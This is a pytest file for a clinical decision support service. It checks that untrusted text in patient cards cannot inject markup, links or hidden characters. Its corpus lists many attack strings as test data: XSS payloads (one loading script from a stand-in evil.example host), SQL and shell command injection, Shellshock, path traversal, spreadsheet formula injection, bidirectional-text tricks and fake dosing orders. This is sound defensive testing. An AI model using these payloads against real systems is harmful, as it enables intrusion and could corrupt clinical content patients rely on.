"""Text from outside cannot act on a card: no markup, no link, no hidden character, whatever it holds and wherever it stands.

The oracle is markdown-it (GitHub-flavoured, raw HTML on, as the sandbox renders it): a card with hostile text has the very
structure it has with harmless text.
"""

import re
from datetime import date
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from cds_service.cards import cards, sentences
from cds_service.knowledge.finding import Evidence, Finding, Indicator, Offer, say
from cds_service.knowledge.parameters import in_force
from cds_service.patient.facts import Outside, Person, Record
from cds_service.protocol.card import Card

PARAMETERS = in_force()
MARKDOWN = MarkdownIt("gfm-like", {"linkify": False, "html": True})

MARKS = (
    "**",
    "__",
    "*",
    "_",
    "~~",
    "`",
    "```",
    "|",
    "> ",
    "# ",
    "- ",
    "1. ",
    "===",
    "---",
    "\\",
    "&amp;",
    "<!--",
    "[ ] ",
    "[^1] ",
)
ORDERS = ("STOP prednisone", "dose doubled")
WRAPPED = tuple(f"{mark}{order}{mark.strip()}" for mark, order in product(MARKS, ORDERS))
BARE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='https://evil.example'>the protocol</a>",
    "<style>*{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<form action=https://evil.example><input name=q>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "</p></div><h1>Take 600 mg</h1>",
    "<b>600 mg</b>",
    "<br><br><br>",
    "<!-- hidden --> shown",
    "<![CDATA[x]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "< script >",
    "AST <baseline and >ULN",
    "x < y > z",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&colon;&sol;&nbsp;&copy;",
    "[go](javascript:alert(1))",
    "[go](https://evil.example)",
    "[go]: https://evil.example",
    "[go][ref]",
    "![pixel](https://evil.example/p.png)",
    "![](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[![x](https://evil.example/a)](https://evil.example/b)",
    "<https://evil.example/a>",
    "<mailto:a@evil.example>",
    "<javascript:alert(1)>",
    "https://evil.example/?p=1",
    "http://evil.example",
    "HTTPS://EVIL.EXAMPLE",
    "hxxps://evil.example",
    "ftp://evil.example/x",
    "//evil.example/x",
    "www.evil.example",
    "WWW.evil.example/path?x=1",
    "(www.evil.example)",
    "call us at help@evil.example today",
    "mailto:help@evil.example",
    "xmpp:help@evil.example/x",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "**STOP** _now_ `rm -rf` ~~ignore~~",
    "***all***",
    "*a **b* c**",
    "5*4*3 and 2_3_4 and ~70%~",
    "`` ` ``",
    "``` js\nalert(1)\n```",
    "~~~\ncode\n~~~",
    "    indented code",
    "\tindented code",
    "# Heading",
    "###### Heading",
    "Heading\n=======",
    "Heading\n---",
    "---",
    "***",
    "___",
    "> quoted order",
    ">>> quoted",
    "- item\n- item",
    "+ item",
    "* item",
    "1. item",
    "1) item",
    "0. item",
    "- [x] done",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "a | b\n--|--\n1 | 2",
    "[^1]: a footnote",
    "text[^1]",
    ":smile: @everyone #123",
    "$x^2$ $$\\frac{1}{2}$$",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{drug} {0} {drug.__class__} %s %(x)s",
    "line one\nline two",
    "line one\r\nline two",
    "line one\rline two",
    "para one\n\npara two",
    "hard break  \nnext",
    "hard break\\\nnext",
    "\u2028line\u2029paragraph",
    "\x0bvertical\x0cfeed",
    "\x85next line",
    "\x00null\x00",
    "\x07bell\x08back\x1b[31mred\x1b[0m",
    "\x7fdelete \x80\x9fc1",
    "\ufeffbyte order mark",
    "zero\u200bwidth\u200cjoin\u200der\u2060",
    "soft\u00adhyphen",
    "\u202eright to left\u202c",
    "\u2066isolate\u2069 \u2067isolate\u2069 \u2068isolate\u2069",
    "\u200emark\u200f \u061cmark",
    "\u202aembed\u202b \u202doverride",
    "\U000e0041\U000e0042\U000e007f tags",
    "\u180evowel separator",
    "\u3164filler\u115f\u1160\uffa0",
    "\u2800\u2800\u2800",
    "\u034fjoiner \ufe0f variation \U000e0100 selector",
    "\ud800 lone surrogate",
    "\udfff\ud83d swapped",
    "\ufffe\uffff not a character",
    "\ue000 private use",
    "\u0378 unassigned",
    "Z\u0341a\u0341l\u0341g\u0341o" * 30,
    "\u0430\u0440\u0440\u0435\u0430l",
    "\uff1cscript\uff1e full width",
    "\u2039script\u203a angle",
    "\uff0a\uff0aSTOP\uff0a\uff0a",
    "\u2217\u2217STOP\u2217\u2217",
    "\u00a0\u00a0\u00a0",
    "\u3000ideographic\u3000space",
    "تاكروليموس",
    "タクロリムス",
    "👩🏽‍⚕️ 💊",
    "ﷺ",
    "''''\"\"\"\"",
    "' OR 1=1 --",
    "'; DROP TABLE cards; --",
    "Robert'); DROP TABLE patients;--",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "../../../etc/passwd",
    "C:\\windows\\system32",
    "() { :; }; echo",
    "`id` $(id) | id ; id && id",
    "null",
    "undefined",
    "NaN",
    "true",
    "[]",
    "{}",
    '{"resourceType": "Patient"}',
    "0",
    "-1",
    "1e999",
    "9" * 500,
    "x" * 10_000,
    "W" * 79 + "**",
    "\\" * 79,
    "*" * 80,
    "<" * 200,
    "`" * 80,
    "[" * 40 + "]" * 40,
    "\\*\\*not escaped\\*\\*",
    "\\<script\\>",
    "trailing backslash \\",
    "**unclosed",
    "closed**",
    "`unclosed",
    "<unclosed",
    "[unclosed](",
    "",
    " ",
    "\n",
)
HOSTILE = tuple(dict.fromkeys((*BARE, *WRAPPED)))
HARMLESS = "tacrolimus"


def finding(text: str) -> Finding:
    """A finding with outside text in every place where a rule may put it."""
    outside = say("hostile-middle", text=Outside(text))
    opening = say("hostile-opening", text=Outside(text))
    alone = say("hostile-alone", text=Outside(text))
    both = (outside, opening, alone)
    return Finding(
        "abrupt-stop",
        Indicator.WARNING,
        "abrupt-stop",
        outside,
        happened=(alone, *both),
        meaning=both,
        advice=both,
        unknown=both,
        offers=(Offer("none", outside),),
        evidence=(Evidence(f"Observation/{text}", "2026-02-27"),),
    )


@pytest.fixture(autouse=True)
def hostile_sentences(monkeypatch: pytest.MonkeyPatch) -> None:
    extra = 'hostile-middle = "On record: {text}, verify."\nhostile-opening = "{text} is on record."\nhostile-alone = "{text}"\n'
    both = sentences.catalogue() | sentences.read(extra)
    monkeypatch.setattr(sentences, "catalogue", lambda: both)


def card_with(text: str) -> Card:
    """A card that shows the text."""
    record = Record(Person("p1"), date(2026, 3, 1), "patient-view")
    (card,) = cards([finding(text)], record, parameters=PARAMETERS, base_url="https://cds.example")
    return card


def leaves(tokens: list[Token]) -> list[Token]:
    return [leaf for token in tokens for leaf in (leaves(token.children) if token.children else [token])]


def structure(detail: str) -> list[str]:
    types = [token.type for token in leaves(MARKDOWN.parse(detail))]
    return [kind for kind, before in zip(types, [None, *types], strict=False) if not kind == before == "text"]


def test_the_corpus_is_of_some_two_hundred_strings() -> None:
    assert len(HOSTILE) >= 200


def test_a_harmless_card_is_text_bold_and_lists_only() -> None:
    kinds = set(structure(str(card_with(HARMLESS).detail)))

    assert {kind.removesuffix("_open").removesuffix("_close") for kind in kinds} == {
        "paragraph", "text", "strong", "bullet_list", "list_item",
    }  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:40])
def test_hostile_text_leaves_the_card_as_it_is(text: str) -> None:
    card = card_with(text)

    assert structure(str(card.detail)) == structure(str(card_with(HARMLESS).detail))
    assert_harmless(card)


@given(st.text(max_size=200))
def test_any_text_leaves_the_card_as_it_is(text: str) -> None:
    card = card_with(text)

    assert structure(str(card.detail)) == structure(str(card_with(HARMLESS).detail))
    assert_harmless(card)


@given(st.lists(st.sampled_from(["www.", "a.b", "@", "://", "http", "https", "\\", "(", ")", " ", "*", "[", "]", "<", "-"])))
def test_no_mixture_of_link_parts_becomes_a_link(parts: list[str]) -> None:
    assert_harmless(card_with("".join(parts)))


# What renderers of GitHub-flavoured Markdown turn into links in text that is already unescaped.
AUTOLINKS = (
    re.compile(r"(https?://|ftp://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.IGNORECASE),
    re.compile(r"[-.\w+]+@[-\w]+(?:\.[-\w]+)+"),
)


def assert_harmless(card: Card) -> None:
    blocks = [token for token in MARKDOWN.parse(str(card.detail)) if token.children]
    for text in (*("".join(leaf.content for leaf in leaves([block])) for block in blocks), card.summary):
        assert not any(link.search(text) for link in AUTOLINKS)
        assert all(char.isprintable() for char in text)
    assert card.summary == " ".join(card.summary.split())
    assert max(len(card.summary), len(card.summary.encode("utf-16-le")) // 2) < 140
    assert str(card.detail).encode("utf-8")


def test_text_that_looks_like_a_slot_is_not_filled() -> None:
    assert "{drug}" in card_with("{drug}").summary
